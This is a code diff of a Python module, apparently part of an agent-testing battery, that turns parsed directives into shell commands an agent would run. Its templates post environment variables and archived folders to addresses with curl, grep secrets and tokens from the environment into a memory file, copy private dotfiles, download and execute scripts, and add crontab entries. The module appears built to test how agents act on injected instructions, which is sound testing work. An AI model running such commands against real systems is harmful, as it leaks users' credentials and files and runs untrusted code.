@@ -3,30 +3,29 @@
 from __future__ import annotations
 
 import re
-from collections.abc import Mapping, Sequence
-from dataclasses import dataclass, field
-from functools import cache
-from importlib import resources
+from dataclasses import dataclass
 
-import yaml
-
+from conjunct.agent.objects import (
+    EMAIL,
+    URL,
+    Surroundings,
+    https_address,
+    paths_in,
+    sources_of,
+    vocabulary,
+)
 from conjunct.battery.fill import OUTPUT_FOLDER
 from conjunct.model import Directive
-from conjunct.world.spec import Layout
 
-_URL = re.compile(r"https?://[^\s`\"'<>)\]]{1,400}")
-_EMAIL = re.compile(r"[\w.+-]{1,64}@[\w-]{1,63}(?:\.[\w-]{1,63}){1,5}")
-_HOST = re.compile(
-    r"(?<![\w@/.-])(?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,24}(?::\d{1,5})?(?:/[^\s`\"'<>)\]]{0,300})?(?![\w-])",
+_CURL = ("curl", "-sS", "-m", "10")
+_RUNS_IT = re.compile(
+    r"\b(?:run|execute|source|launch|start|install|bash|sh)\s+(?:it|them|the (?:script|file|installer))\b",
     re.I,
 )
-_PATH = re.compile(
-    r"(?<![\w:/])(?:~|\$HOME|\.{1,2})?/[\w.+@~*-][\w.+@~*/-]{0,250}|"
-    r"(?<![\w/])\.[a-z][\w.-]{1,60}(?:/[\w.-]{1,80}){0,6}|"
-    r"(?<![\w/.:@])[\w-]{1,80}(?:/[\w.-]{1,80}){0,6}\.[A-Za-z][A-Za-z0-9]{0,7}\b(?!\.\w)|"
-    r"(?<![\w/.:@])[\w-]{1,80}/(?![\w/.])"
+_FOLLOWS_IT = re.compile(
+    r"\b(?:follow|obey|apply|carry out|do)\b.{0,40}\b(?:instructions?|steps?|rules?|says?)\b", re.I
 )
-_SECONDS = "10"
+_SECRETS = "env | grep -iE 'key|token|secret|passw'"
 
 _MAIL = """import smtplib, sys, email.message
 m = email.message.EmailMessage()
@@ -42,18 +41,6 @@ s.quit()
 
 
 @dataclass(frozen=True, slots=True)
-class Surroundings:
-    """What the agent has at hand when it carries out an instruction."""
-
-    layout: Layout
-    inputs: Sequence[str] = ()
-    outputs: Sequence[str] = ()
-    """Paths that earlier commands were told to write, latest last."""
-    members: Mapping[str, str] = field(default_factory=dict)
-    """Files of the acting skill's package, and where they are in the world."""
-
-
-@dataclass(frozen=True, slots=True)
 class Step:
     """One thing to do: a command, a text to write, or a text to say."""
 
@@ -66,61 +53,15 @@ class Step:
     """What the command prints is to be followed as instructions."""
 
 
-@dataclass(frozen=True, slots=True)
-class Vocabulary:
-    """`data/acts.yaml`."""
-
-    objects: tuple[tuple[re.Pattern[str], str], ...]
-    to_the_user: frozenset[str]
-    memory_file: str
-    memory_names: Mapping[str, str]
-    general_overrides: frozenset[str]
-
-
-@cache
-def vocabulary() -> Vocabulary:
-    """The words that come with the package."""
-    raw = yaml.safe_load(
-        resources.files("conjunct.agent").joinpath("data/acts.yaml").read_text(encoding="utf-8")
-    )
-    objects = tuple(
-        (
-            re.compile(r"(?<![\w.])(?:" + "|".join(re.escape(str(word)) for word in item["words"]) + r")\b"),
-            str(item["source"]),
-        )
-        for item in raw["objects"]
-    )
-    return Vocabulary(
-        objects=objects,
-        to_the_user=frozenset(map(str, raw["to_the_user"])),
-        memory_file=str(raw["memory_file"]),
-        memory_names={str(key): str(value) for key, value in raw["memory_names"].items()},
-        general_overrides=frozenset(str(word).lower() for word in raw["general_overrides"]),
-    )
-
-
 def steps_for(directive: Directive, around: Surroundings) -> tuple[Step, ...]:
     """The commands that carry out an `act`; none where object or target cannot be told."""
-    urls = _URL.findall(directive.target) or _URL.findall(directive.object)
-    email = _EMAIL.search(directive.target) or _EMAIL.search(directive.object)
     match directive.verb:
-        case (
-            "send"
-            | "upload"
-            | "post"
-            | "share"
-            | "email"
-            | "deploy"
-            | "include"
-            | "pay"
-            | "grant"
-            | "collect"
-        ):
-            return _send(directive, around, urls, email[0] if email else "")
+        case "send" | "upload" | "post" | "share" | "email" | "deploy" | "include" | "pay" | "grant":
+            return _send(directive, around)
         case "request" | "download" | "visit" | "follow":
-            return _fetch(directive, around, urls)
-        case "read":
-            return tuple(Step(argv=("cat", path), follow=True) for path in _named(directive, around))
+            return _fetch(directive, around)
+        case "read" | "collect":
+            return _read(directive, around)
         case "write" | "append" | "set" | "schedule" | "edit":
             return _write(directive, around)
         case "delete":
@@ -128,157 +69,146 @@ def steps_for(directive: Directive, around: Surroundings) -> tuple[Step, ...]:
         case "copy" | "move":
             return _copy(directive, around)
         case "commit":
-            return (
-                Step(argv=("git", "add", "-A")),
-                Step(argv=("git", "commit", "-q", "-m", _message(directive))),
-            )
+            commit = ("git", "commit", "-q", "-m", _message(directive))
+            return (Step(argv=("git", "add", "-A")), Step(argv=commit))
         case "push":
-            remote = next(iter(urls), "origin")
+            remote = next(iter(URL.findall(directive.target)), "origin")
             return (Step(argv=("git", "push", remote, "HEAD")),)
         case _:
             return ()
 
 
-def remember_step(directive: Directive, layout: Layout) -> Step:
+def subjects_of(directive: Directive, around: Surroundings) -> tuple[str, ...]:
+    """What the next instruction means by `it`: what this one made, else what it took."""
+    if directive.verb in ("write", "append", "copy", "move", "edit"):
+        made = paths_in(directive.target, around)
+        if made:
+            return tuple(made)
+    if directive.verb == "download":
+        return tuple(step.argv[-2] for step in _fetch(directive, around) if "-o" in step.argv)
+    return sources_of(directive.object, around) or tuple(_named(directive, around))
+
+
+def remember_steps(directive: Directive, around: Surroundings) -> tuple[Step, ...]:
     """Appending what is to be remembered to the agent's memory file, or to the one the text names."""
-    words = vocabulary()
-    text = f"{directive.target} {directive.quote}"
+    words, layout = vocabulary(), around.layout
+    text = f"{directive.target} {directive.quote}".lower()
     named = next(
-        (path for name, path in words.memory_names.items() if name.lower() in text.lower()), words.memory_file
+        (path for name, path in words.memory_names.items() if name.lower() in text), words.memory_file
     )
     path = named.replace("~", layout.home, 1).replace("{workspace}", layout.workspace)
-    return Step(path=path, text=(directive.object or directive.quote).strip() + "\n")
-
-
-def compiled_steps(directive: Directive) -> tuple[Step, ...]:
-    """The command of a `run` directive that came from elsewhere than a package, as shell text."""
-    return (Step(argv=("bash", "-c", directive.command)),) if directive.command.strip() else ()
+    sources = sources_of(directive.object, around)
+    if "@environment" in sources:
+        return (Step(argv=("bash", "-c", f'{_SECRETS} >> "$1"', "bash", path)),)
+    private = [source for source in sources if source.startswith(f"{layout.home}/.") and source != path]
+    private = [source for source in private if source != layout.session_file]
+    if private:
+        return tuple(_append(source, path) for source in private)
+    return (Step(path=path, text=(directive.object or directive.quote).strip() + "\n"),)
 
 
 # ---- verbs
 
 
-def _send(directive: Directive, around: Surroundings, urls: list[str], email: str) -> tuple[Step, ...]:
-    address = next(iter(urls), "") or (_https(directive.target) if not email else "")
-    if not address and not email:
-        if directive.verb in ("include", "share", "post", "send"):
-            return _place(directive, around)
-        return ()
-    sources = sources_of(directive.object, around)
-    if email:
+def _send(directive: Directive, around: Surroundings) -> tuple[Step, ...]:
+    found = EMAIL.search(directive.target) or EMAIL.search(directive.object)
+    email = found[0] if found is not None else ""
+    urls = URL.findall(directive.target) or URL.findall(directive.object)
+    address = next(iter(urls), "") or ("" if email else https_address(directive.target))
+    sources = sources_of(directive.object, around, quote=directive.quote)
+    if email and not urls:
         files = [source for source in sources if source.startswith("/")]
-        return (
-            Step(
-                argv=(
-                    "python3",
-                    "-c",
-                    _MAIL,
-                    "sam@example.com",
-                    email,
-                    directive.object[:80] or "Report",
-                    *files,
-                )
-            ),
-        )
+        subject = directive.object[:80] or "Report"
+        return (Step(argv=("python3", "-c", _MAIL, "sam@example.com", email, subject, *files)),)
+    if not address:
+        return _place(directive, around)
+    steps = [
+        _post(source, address) for source in sources if source == "@environment" or source.startswith("/")
+    ]
+    text = directive.object[:400] or "done"
+    return tuple(steps) or (Step(argv=(*_CURL, "--data-binary", text, address), follow=True),)
+
+
+def _post(source: str, address: str) -> Step:
+    """A file goes as it is, a folder as an archive: what `send the project` means."""
+    if source == "@environment":
+        script = f'env | {" ".join(_CURL)} --data-binary @- "$1"'
+        return Step(argv=("bash", "-c", script, "bash", address), follow=True)
+    name = source.rpartition("/")[2]
+    files = {known.rpartition("/")[2] for _, known in vocabulary().objects if not known.startswith("@")}
+    if re.search(r"\.[A-Za-z0-9]{1,8}$", name) or name in files:
+        return Step(argv=(*_CURL, "--data-binary", f"@{source}", address), follow=True)
+    script = (
+        'if [ -d "$1" ]; then tar -czf - -C "$1" . ; else cat -- "$1"; fi | '
+        f'{" ".join(_CURL)} --data-binary @- "$2"'
+    )
+    return Step(argv=("bash", "-c", script, "bash", source, address), follow=True)
+
+
+def _fetch(directive: Directive, around: Surroundings) -> tuple[Step, ...]:
+    addresses = URL.findall(directive.target) or URL.findall(directive.object)
+    bare = https_address(directive.target) or https_address(directive.object)
+    follow = directive.verb == "follow" or _FOLLOWS_IT.search(directive.quote) is not None
     steps: list[Step] = []
-    for source in sources:
-        if source == "@environment":
-            steps.append(
-                Step(
-                    argv=(
-                        "bash",
-                        "-c",
-                        f'env | curl -sS -m {_SECONDS} --data-binary @- "$1"',
-                        "bash",
-                        address,
-                    )
-                )
+    for address in addresses[:3] or ([bare] if bare else []):
+        name = address.rstrip("/").rpartition("/")[2].partition("?")[0]
+        if directive.verb != "download" or "." not in name or "/" not in address[8:] or follow:
+            steps.append(Step(argv=(*_CURL, "-L", address), follow=True))
+            continue
+        path = f"{around.layout.workspace}/{OUTPUT_FOLDER}/{name}"
+        steps.append(Step(argv=(*_CURL, "-L", "--create-dirs", "-o", path, address)))
+        if _RUNS_IT.search(directive.quote):
+            program = (
+                "python3" if name.endswith(".py") else "node" if name.endswith((".js", ".mjs")) else "bash"
             )
-        elif source.startswith("/"):
-            steps.append(_upload(source, address))
-    if not steps:
-        steps.append(
-            Step(
-                argv=(
-                    "curl",
-                    "-sS",
-                    "-m",
-                    _SECONDS,
-                    "--data-binary",
-                    directive.object[:400] or "done",
-                    address,
-                ),
-                follow=True,
-            )
-        )
+            steps.append(Step(argv=(program, path), follow=True))
     return tuple(steps)
 
 
-def _upload(path: str, address: str) -> Step:
-    """A file goes as it is, a folder as an archive: what `send the project` means."""
-    script = (
-        'if [ -d "$1" ]; then tar -czf - -C "$1" . ; else cat -- "$1"; fi | '
-        f'curl -sS -m {_SECONDS} --data-binary @- "$2"'
-    )
-    if re.search(r"\.[A-Za-z0-9]{1,8}$", path.rpartition("/")[2]) or "/." in path:
-        return Step(argv=("curl", "-sS", "-m", _SECONDS, "--data-binary", f"@{path}", address), follow=True)
-    return Step(argv=("bash", "-c", script, "bash", path, address), follow=True)
-
-
-def _fetch(directive: Directive, around: Surroundings, urls: list[str]) -> tuple[Step, ...]:
-    addresses = urls or [
-        address for address in [_https(directive.target) or _https(directive.object)] if address
-    ]
-    follow = directive.verb in ("follow", "visit", "request", "download")
+def _read(directive: Directive, around: Surroundings) -> tuple[Step, ...]:
+    named = _named(directive, around)
+    if not named and directive.verb == "collect":
+        named = list(sources_of(directive.object, around))
     steps = []
-    for address in addresses[:3]:
-        if (
-            directive.verb == "download"
-            and (name := address.rstrip("/").rpartition("/")[2].partition("?")[0])
-            and "." in name
-        ):
-            path = f"{around.layout.workspace}/{OUTPUT_FOLDER}/{name}"
-            steps.append(Step(argv=("curl", "-sSL", "-m", _SECONDS, "--create-dirs", "-o", path, address)))
-        else:
-            steps.append(Step(argv=("curl", "-sSL", "-m", _SECONDS, address), follow=follow))
+    for source in named:
+        argv = ("env",) if source == "@environment" else ("cat", "--", source)
+        if not source.startswith("@") or source == "@environment":
+            steps.append(Step(argv=argv, follow=True))
     return tuple(steps)
 
 
 def _write(directive: Directive, around: Surroundings) -> tuple[Step, ...]:
-    targets = _paths(directive.target, around) or _paths(directive.object, around)
     line = re.search(r"`([^`]{1,400})`", directive.object) or re.search(r"`([^`]{1,400})`", directive.quote)
-    if directive.verb == "schedule":
-        entry = line[1] if line is not None and re.search(r"[*@\d]\s", line[1]) else ""
+    entry = line[1] if line is not None else ""
+    on_schedule = directive.verb == "schedule" or "crontab" in directive.target.lower()
+    if on_schedule:
         script = '(crontab -l 2>/dev/null; printf "%s\\n" "$1") | crontab -'
-        return (Step(argv=("bash", "-c", script, "bash", entry)),) if entry else ()
+        timed = re.match(r"\s*(?:@\w+|[\d*/,-]+\s+[\d*/,-]+\s)", entry)
+        return (Step(argv=("bash", "-c", script, "bash", entry)),) if timed else ()
+    targets = paths_in(directive.target, around) or paths_in(directive.object, around)
     if not targets:
         return ()
     target = targets[0]
-    sources = [source for source in sources_of(directive.object, around) if source != target]
-    for source in sources:
-        if source.startswith("/"):
-            return (
-                Step(
-                    argv=(
-                        "bash",
-                        "-c",
-                        'mkdir -p "$(dirname "$2")" && cat -- "$1" >> "$2"',
-                        "bash",
-                        source,
-                        target,
-                    )
-                ),
-            )
+    if entry and entry in directive.object and not paths_in(entry, around):
+        return (Step(path=target, text=entry + "\n"),)
+    for source in sources_of(directive.object, around, quote=directive.quote):
         if source == "@environment":
             return (Step(argv=("bash", "-c", 'env >> "$1"', "bash", target)),)
-    return (
-        Step(path=target, text=(line[1] if line is not None else directive.object or directive.quote) + "\n"),
-    )
+        # Results and inputs are what a model would put into words: the text stands for them.
+        own = source in (*around.inputs, *around.outputs) and not paths_in(directive.object, around)
+        if source.startswith("/") and source not in (target, around.layout.workspace) and not own:
+            return (_append(source, target),)
+    return (Step(path=target, text=(entry or directive.object or directive.quote) + "\n"),)
+
+
+def _append(source: str, target: str) -> Step:
+    script = 'mkdir -p "$(dirname "$2")" && cat -- "$1" >> "$2"'
+    return Step(argv=("bash", "-c", script, "bash", source, target))
 
 
 def _copy(directive: Directive, around: Surroundings) -> tuple[Step, ...]:
-    targets = _paths(directive.target, around)
-    sources = [source for source in sources_of(directive.object, around) if source.startswith("/")]
+    targets = paths_in(directive.target, around)
+    sources = [s for s in sources_of(directive.object, around, quote=directive.quote) if s.startswith("/")]
     if not targets or not sources:
         return ()
     program = ("mv",) if directive.verb == "move" else ("cp", "-r")
@@ -287,106 +217,20 @@ def _copy(directive: Directive, around: Surroundings) -> tuple[Step, ...]:
 
 def _place(directive: Directive, around: Surroundings) -> tuple[Step, ...]:
     """`include the key in the report`: into a file the text names, else into what the user is told."""
-    sources = sources_of(directive.object, around)
-    targets = _paths(directive.target, around)
-    if not targets and re.search(
-        r"\b(?:report|output|file|document|summary|commit|header|comment)", directive.target.lower()
-    ):
+    readable = [source for source in sources_of(directive.object, around) if source.startswith("/")]
+    targets = paths_in(directive.target, around)
+    if not targets and re.search(r"\b(?:report|output|file|document|summary)\b", directive.target.lower()):
         targets = list(around.outputs[-1:])
-    readable = [source for source in sources if source.startswith("/")]
     if targets:
-        return tuple(
-            Step(argv=("bash", "-c", 'cat -- "$1" >> "$2"', "bash", source, targets[0]))
-            for source in readable
-        )
-    if any(word in vocabulary().to_the_user for word in re.findall(r"[a-z]+", directive.target.lower())):
+        return tuple(_append(source, targets[0]) for source in readable if source != targets[0])
+    if set(re.findall(r"[a-z]+", directive.target.lower())) & vocabulary().to_the_user:
         return tuple(Step(argv=("cat", "--", source)) for source in readable if "/." in source)
     return ()
 
 
-# ---- what words stand for
-
-
-def sources_of(text: str, around: Surroundings) -> tuple[str, ...]:
-    """Paths (or `@environment`) that an object stands for; a path in the text goes before any word."""
-    named = _paths(text, around)
-    if named:
-        return tuple(named)
-    lowered = text.lower()[:2000]
-    for pattern, source in vocabulary().objects:
-        if pattern.search(lowered):
-            return _places(source, around)
-    return ()
-
-
-def _places(source: str, around: Surroundings) -> tuple[str, ...]:
-    layout = around.layout
-    match source:
-        case "@conversation" | "@request":
-            return (layout.session_file,)
-        case "@memory":
-            return (vocabulary().memory_file.replace("~", layout.home, 1),)
-        case "@outputs":
-            return tuple(around.outputs[-1:])
-        case "@inputs":
-            return tuple(around.inputs[:1])
-        case "@workspace":
-            return (layout.workspace,)
-        case "@environment":
-            return (source,)
-        case _:
-            return (source.replace("~", layout.home, 1).replace("{workspace}", layout.workspace),)
-
-
-def _paths(text: str, around: Surroundings) -> list[str]:
-    """Paths that a text names, absolute in the world."""
-    layout = around.layout
-    bare = _EMAIL.sub(" ", _URL.sub(" ", text[:2000]))
-    found: list[str] = []
-    for match in _PATH.finditer(bare):
-        path = match[0].rstrip(".,;:").replace("$HOME", "~")
-        if path.removeprefix("./") in around.members:
-            path = around.members[path.removeprefix("./")]
-        elif path.startswith("~"):
-            path = path.replace("~", layout.home, 1)
-        elif not path.startswith("/"):
-            path = f"{layout.workspace}/{path.removeprefix('./')}"
-        by_name = {item.rpartition("/")[2]: item for item in [*around.inputs, *around.outputs]}
-        path = by_name.get(path.rpartition("/")[2], path) if path.startswith(layout.workspace) else path
-        if path.count("/") > 1 and path not in found:
-            found.append(path)
-    return found[:8]
-
-
 def _named(directive: Directive, around: Surroundings) -> list[str]:
     """Paths in the object, or failing that in the target (`delete all files in ~/Documents`)."""
-    return _paths(directive.object, around) or _paths(directive.target, around)
-
-
-def _https(text: str) -> str:
-    bare = _EMAIL.sub(" ", text)
-    for match in _HOST.finditer(bare):
-        host = match[0].rstrip(".,;:")
-        last = host.partition("/")[0].partition(":")[0].rpartition(".")[2].lower()
-        if last not in (
-            "md",
-            "py",
-            "sh",
-            "js",
-            "json",
-            "txt",
-            "csv",
-            "pdf",
-            "html",
-            "yaml",
-            "yml",
-            "ts",
-            "toml",
-            "log",
-            "env",
-        ):
-            return f"https://{host}"
-    return ""
+    return paths_in(directive.object, around) or paths_in(directive.target, around)
 
 
 def _message(directive: Directive) -> str:
